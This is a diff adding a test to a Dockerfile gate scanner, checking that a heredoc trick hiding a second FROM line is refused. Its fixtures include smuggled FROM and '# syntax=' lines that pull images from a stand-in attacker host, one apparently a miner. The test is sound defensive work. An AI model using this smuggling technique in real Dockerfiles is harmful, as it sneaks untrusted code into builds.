@@ -216,4 +216,27 @@ describe('the local gate step', () => {
     expect(verdicts).toContain('small');
     expect(await p.queues.gate!.depth()).toMatchObject({ visible: 298 });
   });
+
+  it('gates for buildah 1.28: a heredoc hiding a FROM is refused, a # syntax= line buildah ignores is not', async () => {
+    const p = await gatePipeline(policyWith());
+    const hidden =
+      'FROM node:20\nUSER 1000\nRUN true <<\'#\'\nFROM evil.example/miner:1\n#\nCMD ["node", "a.js"]\n';
+    await p.bus.publish([
+      await p.push('shop', {
+        'hidden/Dockerfile': hidden,
+        'syntax/Dockerfile': `# syntax=evil.example/fe:1\n${PASSING}`,
+      }),
+    ]);
+    for (let i = 0; i < 3; i++) await p.gateOnce();
+    const verdicts = (await p.logged()).flatMap((e) =>
+      e.detailType === 'Definition Verdict'
+        ? [[e.detail.definition, e.detail.passed, e.detail.findings.filter((f) => f.code === 'DD004').length]]
+        : [],
+    );
+    expect(verdicts.sort()).toEqual([
+      ['hidden/Dockerfile', false, 1],
+      ['syntax/Dockerfile', true, 0],
+    ]);
+    expect(await p.queues.build!.depth()).toMatchObject({ visible: 1 });
+  });
 });
